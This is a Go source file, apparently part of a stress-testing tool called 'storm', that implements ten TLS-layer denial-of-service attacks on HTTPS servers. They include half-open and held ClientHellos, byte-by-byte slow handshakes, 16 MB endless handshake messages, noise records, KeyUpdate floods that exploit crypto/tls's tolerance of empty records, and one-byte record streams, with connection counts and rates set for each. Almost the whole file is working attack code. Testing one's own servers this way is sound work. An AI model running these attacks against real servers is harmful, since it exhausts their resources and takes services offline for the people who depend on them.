package storm

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"time"
)

// tlsAttacks begin below HTTP: their connections are TCP to the
// port of HTTPS, and TLS is each attack's own matter.
func tlsAttacks() []Attack {
	return []Attack{
		{Name: "handshakes", What: "whole TLS handshakes, each on a new connection", Unit: "handshakes",
			Conns: 32, Dials: 200, Rate: 200, Needs: Secure, run: handshakes},
		{Name: "half-open handshakes", What: "a ClientHello on each connection, and the answer thrown away", Unit: "handshakes",
			Conns: 64, Dials: 500, Rate: 500, Needs: Secure, run: halfOpen},
		{Name: "held handshakes", What: "a ClientHello on each connection, which is then kept", Unit: "handshakes",
			Conns: 2000, Dials: 400, Rate: 400, Needs: Secure, run: heldHello},
		{Name: "slow handshakes", What: "ClientHellos that come byte by byte", Unit: "bytes",
			Conns: 1000, Dials: 500, Rate: 10000, Needs: Secure, run: slowHello},
		{Name: "garbage for a handshake", What: "records of noise, and handshake messages of 16 MB that never end", Unit: "records",
			Conns: 64, Dials: 500, Rate: 2000, Needs: Secure, run: garbage},
		{Name: "garbage after a handshake", What: "a record that cannot be deciphered", Unit: "records",
			Conns: 16, Dials: 100, Rate: 100, Needs: Secure, run: garbageLater},
		{Name: "key updates", What: "KeyUpdates that ask for one each, a byte of a body after every twelve", Unit: "updates",
			Conns: 16, Dials: 50, Rate: 20000, Needs: Secure, run: keyUpdates},
		{Name: "key updates unread", What: "the same, with no answer read", Unit: "updates",
			Conns: 16, Dials: 50, Rate: 20000, Needs: Secure, run: keyUpdatesUnread},
		{Name: "tiny records", What: "a body in records of one byte, with empty ones between them", Unit: "records",
			Conns: 16, Dials: 50, Rate: 20000, Needs: Secure, run: tinyRecords},
		{Name: "slow heads by TLS", What: "heads that grow by a byte twice a second", Unit: "bytes",
			Conns: 1000, Dials: 200, Rate: 4000, Needs: Secure, run: overTLS(slowHead)},
	}
}

// overTLS is an attack on HTTP/1.1 through TLS.
func overTLS(run func(*storm, *line) error) func(*storm, *line) error {
	return func(s *storm, c *line) error {
		if err := c.handshake(s.tls("http/1.1")); err != nil {
			return s.unlessOver(err)
		}
		return run(s, c)
	}
}

// prepare makes what all connections share.
func (s *storm) prepare() error {
	cfg := s.tls("h2", "http/1.1")
	switch s.attack.Needs {
	case Secure:
	case HTTP3:
		cfg = s.tls("h3")
		cfg.CurvePreferences = []tls.CurveID{tls.X25519} // or it would not fit one packet
	default:
		return nil
	}
	var catch catcher
	if err := tls.Client(&catch, cfg).HandshakeContext(context.Background()); !errors.Is(err, errCaught) {
		return fmt.Errorf("make a ClientHello: %w", err)
	}
	s.hello = catch.first
	return nil
}

var errCaught = errors.New("storm: the first flight was caught")

// catcher is a connection that keeps what is written to it first.
type catcher struct {
	net.Conn
	first []byte
}

func (c *catcher) Write(p []byte) (int, error) {
	c.first = append(c.first, p...)
	return 0, errCaught
}

func (c *catcher) Read([]byte) (int, error)         { return 0, errCaught }
func (c *catcher) Close() error                     { return nil }
func (c *catcher) SetDeadline(time.Time) error      { return nil }
func (c *catcher) SetReadDeadline(time.Time) error  { return nil }
func (c *catcher) SetWriteDeadline(time.Time) error { return nil }

func handshakes(s *storm, c *line) error {
	if !s.may(1) {
		return nil
	}
	return s.unlessOver(c.handshake(s.tls("h2", "http/1.1")))
}

// halfOpen has the server do its part, key exchange and signature, and does
// nothing itself.
func halfOpen(s *storm, c *line) error {
	if !s.may(1) {
		return nil
	}
	if _, err := c.Write(s.hello); err != nil {
		return s.unlessOver(err)
	}
	_ = c.tcp.SetReadDeadline(time.Now().Add(dialTime))
	b := make([]byte, 4096)
	if _, err := c.Read(b); err != nil {
		return s.unlessOver(err)
	}
	return nil
}

func heldHello(s *storm, c *line) error {
	if !s.may(1) {
		return nil
	}
	if _, err := c.Write(s.hello); err != nil {
		return s.unlessOver(err)
	}
	return c.hold()
}

func slowHello(s *storm, c *line) error {
	c.discard()
	return s.unlessOver(s.drip(c, string(s.hello), 200*time.Millisecond))
}

// recordOf is a record of TLS in the clear (RFC 8446, section 5.1).
func recordOf(kind byte, content []byte) []byte {
	return append([]byte{kind, 3, 3, byte(len(content) >> 8), byte(len(content))}, content...)
}

const (
	recordAlert       = 21
	recordHandshake   = 22
	recordApplication = 23
)

func garbage(s *storm, c *line) error {
	c.discard()
	b := make([]byte, 4<<10)
	_, _ = rand.Read(b)
	var raw []byte
	switch n := c.n % 4; n {
	case 0:
		s.kind("noise", 1)
		raw = b
	case 1:
		s.kind("endless handshake message", 1)
		b[0], b[1], b[2], b[3] = 1, 0xff, 0xff, 0xff // ClientHello, 16 MB
		raw = recordOf(recordHandshake, b)
	case 2:
		s.kind("noise behind a ClientHello", 1)
		raw = append(append(raw, s.hello...), recordOf(recordApplication, b)...)
	case 3:
		s.kind("warnings", 1)
		for range 200 {
			raw = append(raw, recordOf(recordAlert, []byte{1, 90})...)
		}
	}
	for s.may(1) {
		if _, err := c.Write(raw); err != nil {
			return s.unlessOver(err)
		}
		raw = recordOf(recordHandshake, b)
	}
	return nil
}

func garbageLater(s *storm, c *line) error {
	raw := c.Conn
	if err := c.handshake(s.tls("http/1.1")); err != nil {
		return s.unlessOver(err)
	}
	if !s.may(1) {
		return nil
	}
	b := make([]byte, 16<<10)
	_, _ = rand.Read(b)
	if _, err := raw.Write(recordOf(recordApplication, b)); err != nil {
		return s.unlessOver(err)
	}
	_, _ = io.Copy(io.Discard, raw)
	return nil
}

// body is the head of a request with a body that may become as long as it likes.
func (s *storm) body() string {
	return request("POST", s.to.Sink, s.to.Host) + "Content-Length: 100000000\r\n\r\n"
}

func keyUpdates(s *storm, c *line) error       { return s.updates(c, true) }
func keyUpdatesUnread(s *storm, c *line) error { return s.updates(c, false) }

// updates sends what a server of TLS must not count as idle: crypto/tls forgives 16
// records in a row that bring nothing.
func (s *storm) updates(c *line, reads bool) error {
	k, err := s.keyed(c)
	if err != nil {
		return s.unlessOver(err)
	}
	if reads {
		c.discard()
	}
	batch := k.seal(nil, recordApplication, []byte(s.body()))
	for s.may(12) {
		for range 12 {
			// KeyUpdate, update_requested (RFC 8446, section 4.6.3).
			batch = k.seal(batch, recordHandshake, []byte{24, 0, 0, 1, 1})
			k.update()
		}
		batch = k.seal(batch, recordApplication, []byte("a"))
		if _, err := c.Write(batch); err != nil {
			return s.unlessOver(err)
		}
		batch = batch[:0]
	}
	return nil
}

func tinyRecords(s *storm, c *line) error {
	k, err := s.keyed(c)
	if err != nil {
		return s.unlessOver(err)
	}
	c.discard()
	batch := k.seal(nil, recordApplication, []byte(s.body()))
	for s.may(20) {
		for range 10 {
			batch = k.seal(batch, recordApplication, nil)
			batch = k.seal(batch, recordApplication, []byte("a"))
		}
		if _, err := c.Write(batch); err != nil {
			return s.unlessOver(err)
		}
		batch = batch[:0]
	}
	return nil
}
